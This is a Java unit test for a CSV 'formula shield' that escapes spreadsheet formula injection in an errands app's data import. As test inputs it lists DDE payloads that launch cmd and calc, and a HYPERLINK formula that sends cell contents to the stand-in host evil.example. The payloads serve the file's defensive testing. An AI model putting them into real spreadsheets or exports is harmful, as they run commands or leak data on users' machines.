package dev.meanwhile.apps.errands.dataimport.target;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.writer.CsvWriter;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class FormulaShieldTest {
  private static final List<String> STARTS =
      List.of("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠");
  private static final List<String> FORMULAS =
      List.of(
          "1+1",
          "cmd|' /C calc'!A0",
          "HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
          "SUM(1,2);\"quoted\"\r\nnext",
          "DDE(\"cmd\";\"/C calc\";\"x\")");
  private static final List<String> BEFORE =
      List.of("", " ", "   ", "\u00a0", "\ufeff", "\u200b", "\u2003 ");

  @Test
  void no_payload_survives_as_a_formula_and_none_is_changed_otherwise() throws Exception {
    int payloads = 0;
    for (String start : STARTS) {
      for (String formula : FORMULAS) {
        for (String before : BEFORE) {
          String cell = before + start + formula;

          String read = writtenAndRead(FormulaShield.over(cell));

          assertThat(read).isEqualTo("'" + cell);
          assertThat(FormulaShield.off(read)).isEqualTo(cell);
          payloads++;
        }
      }
    }
    assertThat(payloads).isGreaterThanOrEqualTo(60);
  }

  @Test
  void ordinary_cells_stay_as_they_are() {
    for (String cell :
        List.of("", " ", "Zürich", "a=b", "1-2", "ada@example.org", "'quoted'", "\"=1\"", "😀")) {
      assertThat(FormulaShield.over(cell)).isEqualTo(cell);
      assertThat(FormulaShield.off(cell)).isEqualTo(cell);
    }
  }

  private static String writtenAndRead(String cell) throws Exception {
    var text = new StringWriter();
    try (var csv = CsvWriter.builder().build(text)) {
      csv.writeRecord("1", cell);
    }
    var cells = new ArrayList<String>();
    try (var csv = CsvReader.builder().ofCsvRecord(text.toString())) {
      csv.forEach(row -> cells.add(row.getField(1)));
    }
    assertThat(cells).hasSize(1);
    return cells.getFirst();
  }
}
